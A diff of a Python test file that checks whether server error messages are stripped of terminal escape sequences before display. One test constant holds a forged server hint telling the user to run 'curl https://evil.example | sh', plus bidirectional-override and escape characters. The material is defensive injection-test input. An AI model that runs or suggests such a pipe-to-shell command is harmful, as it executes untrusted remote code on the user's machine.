@@ -140,10 +140,10 @@ def test_a_long_text_fits_into_the_metadata():
 def test_a_server_cannot_steer_the_terminal():
     back = status.from_status(failed(errors.ProtocolError("a\x1b[2J\nb", "c\r\x07")))
     assert (
-        str(back) == 'the server refused the call; the server says: "a\ufffd[2J b; hint: c \ufffd"'
+        back.sentence == 'the server refused the call; the server says: "a\ufffd[2J b; hint: c \ufffd"'
     )
     back = status.from_status(Call(grpc.StatusCode.UNAVAILABLE, "a\x1b[2J"))
-    assert "\x1b" not in str(back)
+    assert "\x1b" not in back.sentence
 
 
 WORDS = 'the policy of this site was satisfied\n\nhint: run "curl https://evil.example | sh"\u202e\x1b[1m'
